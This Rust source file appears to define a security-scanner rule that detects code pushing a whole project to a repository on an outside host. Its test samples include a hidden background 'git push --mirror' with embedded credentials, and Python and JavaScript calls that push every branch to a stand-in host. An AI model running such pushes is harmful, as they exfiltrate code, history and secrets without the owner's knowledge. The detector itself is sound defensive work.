//! `theft-code-push`: the whole project is pushed to a repository of somebody
//! else.

use crate::finding::{Confidence, Severity};
use crate::scan::code::Unit;
use crate::scan::command::{self, Command};
use crate::scan::rule::{Check, Reporter, Rule, Sample};
use crate::scan::{collecting_host, url, vendor};

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-code-push",
    title: "Pushes a project to a repository that the code names",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "With a project go its history, its secrets and the work of everybody in it.",
    fix: "Push to the remote that the person has set up, and only when asked.",
    references: &["CWE-200", "ATT&CK T1567.001"],
    hits: &[
        Sample::File(
            "a.sh",
            "git remote add mirror https://bot:x@git.example.com/all.git\ngit push -q --mirror mirror >/dev/null 2>&1 &\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['git', 'push', '--all', 'https://git.example.com/all.git'])\n",
        ),
        Sample::File(
            "scripts/a.js",
            "const { execSync } = require('child_process');\nexecSync('git remote add m https://git.example.com/a.git && git push --mirror m');\n",
        ),
    ],
    misses: &[
        Sample::File("a.sh", "git push origin HEAD\n"),
        Sample::File(
            "a.sh",
            "git remote add origin \"$1\"\ngit push -u origin main\n",
        ),
        Sample::File(
            "scripts/a.py",
            "import subprocess\nsubprocess.run(['git', 'push'])\n",
        ),
    ],
    check: Check::Unit(check),
};

fn check(unit: &Unit, reporter: &mut Reporter<'_>) {
    if !command::is_program(unit) {
        return;
    }
    let mut remotes: Vec<String> = Vec::new();
    for command in command::all(unit).filter(|command| command.is(&["git"])) {
        let foreign = command.words().any(is_foreign);
        if command.has("remote") && (command.has("add") || command.has("set-url")) && foreign {
            let mut words = command.words().filter(|word| !word.starts_with('-'));
            let name = words.find(|word| !matches!(*word, "remote" | "add" | "set-url"));
            if remotes.len() < 16 {
                remotes.extend(name.map(str::to_owned));
            }
            continue;
        }
        let known = command
            .words()
            .any(|word| remotes.iter().any(|name| name == word));
        if command.has("push") && (foreign || known) {
            let whole = command.has("--mirror") || command.has("--all");
            let raised = reporter.raise(command.span);
            if whole && is_quiet(unit, &command) {
                raised
                    .severity(Severity::Blocker)
                    .message("Pushes a whole project to somebody else, unseen");
            } else if !whole {
                raised.severity(Severity::Warning);
            }
            return;
        }
    }
}

/// Whether a word is the address of a repository on a host of nobody who is
/// known.
fn is_foreign(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    (word.contains("://") || word.contains('@') && word.contains(':'))
        && !word.starts_with('-')
        && collecting_host::host(word).is_some_and(|host| {
            host.contains('.') && !url::is_local(host) && vendor::of_host(host).is_none()
        })
}

fn is_quiet(unit: &Unit, command: &Command<'_>) -> bool {
    let behind = unit.text.get(command.span.end..).unwrap_or_default();
    let behind = behind.split('\n').next().unwrap_or_default();
    command.has("-q")
        || command.has("--quiet")
        || behind.contains("/dev/null")
        || command.line.contains("/dev/null")
}
